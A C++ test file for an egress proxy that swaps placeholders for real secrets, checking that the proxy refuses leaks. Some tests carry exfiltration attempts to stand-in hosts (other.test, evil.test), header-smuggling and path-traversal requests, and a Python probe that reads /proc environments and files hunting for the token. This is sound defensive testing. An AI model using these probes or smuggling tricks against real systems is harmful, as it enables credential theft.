// Secrets added at the egress proxy (issue 27, DESIGN.md invariant 11): the rules as pure
// functions, then the proxy in front of fake upstreams over plain HTTP to it, then a sandboxed
// phase that holds only the placeholder and probes for the value. HTTPS through the unit's CA is
// egress_inject_https_test.cc's, a kept-alive TLS connection egress_inject_kept_test.cc's, real
// git and pip egress_inject_clients_test.cc's.
#include "egress_inject_fixture.h"

namespace aw {
namespace {

TEST(IsolateEgressInject, RulesMatchTheirHostMethodAndPlainPathOnly) {
  std::vector<EgressInjection> rules = {npm_rule()};
  EXPECT_TRUE(bound_host(rules, "NPM.example.test."));
  EXPECT_FALSE(bound_host(rules, "example.test"));
  EXPECT_EQ(bound_headers(rules, "npm.example.test."), std::vector<std::string>{"Authorization"});
  EXPECT_TRUE(bound_headers(rules, "other.test").empty());
  EXPECT_EQ(matching_injections(rules, "npm.example.test", "GET", "/pkg/left-pad?x=1").size(), 1u);
  EXPECT_EQ(matching_injections(rules, "Npm.Example.Test", "HEAD", "/pkg/").size(), 1u);
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "POST", "/pkg/a").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/admin").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/pkg/../admin").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/pkg/%2e%2e/admin").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test", "GET", "/pkg/..").empty());
  EXPECT_TRUE(matching_injections(rules, "127.0.0.1", "GET", "/pkg/a").empty());
  EXPECT_TRUE(matching_injections(rules, "npm.example.test.evil.org", "GET", "/pkg/a").empty());
  EgressInjection any = npm_rule();
  any.methods.clear();
  any.paths.clear();
  EXPECT_EQ(matching_injections({any}, "npm.example.test", "DELETE", "/x/../y").size(), 1u);
}

TEST(IsolateEgressInject, ValuesAreTheTemplateOrBasicCredentials) {
  EgressInjection r = npm_rule();
  EXPECT_EQ(injected_value(r), "Bearer " + kNpmToken);
  r.value_template = "{secret}";
  EXPECT_EQ(injected_value(r), kNpmToken);
  r.basic_user = "deploy";
  r.value = kGitPass;
  EXPECT_EQ(injected_value(r), "Basic ZGVwbG95OmdscGF0LUZBS0VmYWtlRkFLRWZha2UxMjM0");
}

TEST(IsolateEgressInject, APlaceholderGoesOnlyToItsOwnRulesHostAndNeverIntoATunnel) {
  std::vector<EgressInjection> rules = {npm_rule()};
  std::map<std::string, std::string> ph = {{kPlaceholder, "NPM_TOKEN"}};
  std::string head = "GET / HTTP/1.1\r\nAuthorization: Bearer " + kPlaceholder + "\r\n\r\n";
  EXPECT_EQ(stray_placeholder(ph, rules, "npm.example.test", false, head), std::nullopt);
  EXPECT_EQ(stray_placeholder(ph, rules, "other.test", false, head), "NPM_TOKEN");
  EXPECT_EQ(stray_placeholder(ph, rules, "npm.example.test", true, head), "NPM_TOKEN");
  EXPECT_EQ(stray_placeholder(ph, rules, "other.test", false, "GET /?t=" + kPlaceholder),
            "NPM_TOKEN");
  EXPECT_EQ(stray_placeholder(ph, rules, "other.test", false, "GET / HTTP/1.1\r\n\r\n"),
            std::nullopt);
}


TEST_F(IsolateEgressInjectProxy, TheBoundHostGetsTheSecretOverVerifiedTlsInPlaceOfThePlaceholder) {
  start();
  std::string got = get("npm.example.test", bound->port(), "/pkg/left-pad",
                        {"Authorization: Bearer " + kPlaceholder});
  EXPECT_EQ(got.rfind("HTTP/1.1 404", 0), 0u) << got;  // the fake's answer, relayed
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].target, "/pkg/left-pad");
  EXPECT_NE(seen[0].head.find("Authorization: Bearer " + kNpmToken + "\r\n"), std::string::npos)
      << seen[0].head;
  EXPECT_EQ(count(seen[0].head, "Authorization:"), 1u) << "the phase's own copy is dropped";
  EXPECT_EQ(seen[0].head.find(kPlaceholder), std::string::npos);
  auto l = lines();
  ASSERT_EQ(l.size(), 1u);
  EXPECT_NE(l[0].find(R"("injected":"NPM_TOKEN")"), std::string::npos) << l[0];
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectProxy, NoSecretOutsideTheRulesMethodPathOrHost) {
  start();
  get("npm.example.test", bound->port(), "/pkg/a", {}, "POST");
  get("npm.example.test", bound->port(), "/admin");
  get("npm.example.test", bound->port(), "/pkg/../admin");
  get("other.test", other->port(), "/pkg/a");
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 3u) << "a bound host is still reached, over TLS, without the secret";
  for (const auto& s : seen) EXPECT_EQ(s.head.find(kNpmToken), std::string::npos) << s.head;
  auto plain = other->seen();
  ASSERT_EQ(plain.size(), 1u);
  EXPECT_EQ(plain[0].head.find(kNpmToken), std::string::npos) << plain[0].head;
  for (const auto& l : lines()) EXPECT_EQ(l.find("injected"), std::string::npos) << l;
  expect_value_nowhere();
}

// An exclusive rule (the read-only forge, agent_forge: read) makes its host take nothing else:
// a request outside the rule is refused at the proxy, not sent on without the secret.
TEST_F(IsolateEgressInjectProxy, AnExclusiveRulesHostTakesNothingOutsideIt) {
  EgressInjection only = npm_rule();
  only.exclusive = true;
  only.exact_paths = {"/pkg"};
  start({only});
  std::string got = get("npm.example.test", bound->port(), "/pkg");
  EXPECT_EQ(got.rfind("HTTP/1.1 404", 0), 0u) << got;  // the exact path: sent, with the secret
  for (const auto& [method, path] : std::vector<std::pair<std::string, std::string>>{
           {"POST", "/pkg/a"}, {"GET", "/admin"}, {"GET", "/pkg/../admin"}, {"GET", "/pkgx"}}) {
    got = get("npm.example.test", bound->port(), path, {}, method);
    EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << method << " " << path << ": " << got;
    EXPECT_NE(got.find("X-Awaywork-Refused: deny outside-rule NPM_TOKEN"), std::string::npos)
        << got;
  }
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 1u) << "only the rule's request reached the host";
  EXPECT_EQ(seen[0].target, "/pkg");
  EXPECT_NE(seen[0].head.find("Authorization: Bearer " + kNpmToken), std::string::npos);
  // Another host is not bound by it.
  get("other.test", other->port(), "/pkg/a", {}, "POST");
  EXPECT_EQ(other->seen().size(), 1u);
  size_t refused = 0;
  for (const auto& l : lines())
    if (l.find(R"("rule":"deny outside-rule NPM_TOKEN")") != std::string::npos) {
      ++refused;
      EXPECT_EQ(l.find("injected"), std::string::npos) << l;
    }
  EXPECT_EQ(refused, 4u);
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectProxy, APlaceholderSentElsewhereIsRefusedAndLogged) {
  start();
  std::string got = get("other.test", other->port(), "/collect?k=" + kPlaceholder);
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  EXPECT_NE(got.find("X-Awaywork-Refused: deny placeholder-exfiltration NPM_TOKEN"),
            std::string::npos)
      << got;
  got = get("other.test", other->port(), "/", {"X-Leak: " + kPlaceholder});
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  // Through a tunnel the proxy could not read, the bound host's own placeholder is refused too.
  got =
      roundtrip(fmt::format("CONNECT npm.example.test:{} HTTP/1.1\r\nProxy-Authorization: "
                            "Basic {}\r\n\r\n",
                            bound->port(), kPlaceholder));
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  // A host not even allowed: refused as an exfiltration attempt all the same.
  got = get("evil.test", 80, "/", {"Authorization: Bearer " + kPlaceholder});
  EXPECT_NE(got.find("deny placeholder-exfiltration NPM_TOKEN"), std::string::npos) << got;
  EXPECT_TRUE(other->seen().empty());
  EXPECT_TRUE(bound->seen().empty());
  auto l = lines();
  ASSERT_EQ(l.size(), 4u);
  for (const auto& line : l)
    EXPECT_NE(line.find(R"("rule":"deny placeholder-exfiltration NPM_TOKEN")"), std::string::npos)
        << line;
  for (const auto& line : l) EXPECT_EQ(line.find(kPlaceholder), std::string::npos) << line;
  expect_value_nowhere();
}

TEST_F(IsolateEgressInjectProxy, AnInjectedAgentCannotRedirectTheSecret) {
  start();
  // Another Host header than the URL's: refused before anything goes upstream.
  std::string hp = fmt::format("npm.example.test:{}", bound->port());
  std::string got = roundtrip(fmt::format(
      "GET http://{}/pkg/a HTTP/1.1\r\nHost: other.test:{}\r\n\r\n", hp, other->port()));
  EXPECT_NE(got.find("deny host-header-mismatch"), std::string::npos) << got;
  // A bare line break could make a header the proxy never saw.
  got =
      roundtrip(fmt::format("GET http://{}/pkg/a HTTP/1.1\r\nHost: {}\r\nX-A: b\nHost: "
                            "other.test\r\n\r\n",
                            hp, hp));
  EXPECT_NE(got.find("deny bare-line-break"), std::string::npos) << got;
  // The IP literal of the same server is no rule's host (and not allowed).
  got = get("127.0.0.1", bound->port(), "/pkg/a");
  EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << got;
  EXPECT_TRUE(bound->seen().empty());
  // A bound host whose server cannot prove it is that host gets nothing: the handshake fails
  // before a byte of the request is written.
  EgressInjection wrong = npm_rule();
  wrong.host = "wrong.test";
  proxy.reset();
  start({npm_rule(), wrong});
  got = get("wrong.test", bound->port(), "/pkg/a");
  EXPECT_NE(got.find("deny upstream-tls-unverified"), std::string::npos) << got;
  EXPECT_TRUE(bound->seen().empty());
  expect_value_nowhere();
}

// ---- from inside a sandbox: the phase holds the placeholder, never the value ----

// Prints what a phase can read (its environment, every /proc entry it can open, the files in its
// folders), then asks the bound host (through HTTP_PROXY, as npm would) and tries to send the
// placeholder elsewhere. The test looks for the value in all of it.
constexpr const char* kPhase = R"(
import glob, os, sys, urllib.request, urllib.error
seen = []
seen += [k + '=' + v for k, v in os.environ.items()]
for p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):
    try:
        seen.append(open(p, 'rb').read().decode('latin-1'))
    except OSError:
        pass
for root in (os.getcwd(),):
    for d, _, files in os.walk(root):
        for f in files:
            try:
                seen.append(open(os.path.join(d, f), 'rb').read(1 << 20).decode('latin-1'))
            except OSError:
                pass
print('SEEN', len(seen), '\n'.join(seen))
def ask(url, headers):
    try:
        r = urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20)
        return str(r.status)
    except urllib.error.HTTPError as e:
        return '%d %s' % (e.code, e.headers.get('X-Awaywork-Refused'))
tok = os.environ['NPM_TOKEN']
print('BOUND', ask('http://npm.example.test:%s/pkg/left-pad' % sys.argv[1],
                   {'Authorization': 'Bearer ' + tok}))
print('ELSEWHERE', ask('http://other.test:%s/x' % sys.argv[2], {'Authorization': 'Bearer ' + tok}))
)";

TEST_F(IsolateEgressInjectProxy, APhaseHoldsThePlaceholderAndTheUpstreamGetsTheValue) {
  start();
  std::string clone = dir.path + "/clone";
  ASSERT_TRUE(make_dirs(clone));
  SandboxPlan plan;
  plan.network = Network::allowlist;
  plan.proxy_socket = proxy->socket_path();
  plan.writable = {clone};
  plan.apply_limits = false;
  auto r = test::run_with(
      make_sandbox_launcher(plan),
      {"python3", "-c", kPhase, std::to_string(bound->port()), std::to_string(other->port())},
      clone,
      {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/nonexistent", "LANG=C",
       "NPM_TOKEN=" + kPlaceholder});
  ASSERT_TRUE(r.started) << r.start_error;
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_NE(r.out.find("NPM_TOKEN=" + kPlaceholder), std::string::npos) << "the probe ran";
  EXPECT_EQ(r.out.find(kNpmToken), std::string::npos) << "the value reached the phase";
  EXPECT_EQ(r.err.find(kNpmToken), std::string::npos);
  std::string tail = r.out.substr(r.out.size() > 300 ? r.out.size() - 300 : 0);
  EXPECT_NE(r.out.find("\nBOUND 404 None\n"), std::string::npos) << tail << r.err;
  EXPECT_NE(r.out.find("\nELSEWHERE 403 deny placeholder-exfiltration NPM_TOKEN\n"),
            std::string::npos)
      << tail;
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_NE(seen[0].head.find("Authorization: Bearer " + kNpmToken), std::string::npos)
      << "positive control: the value exists, and went where the rule says";
  EXPECT_TRUE(other->seen().empty());
}

}  // namespace
}  // namespace aw
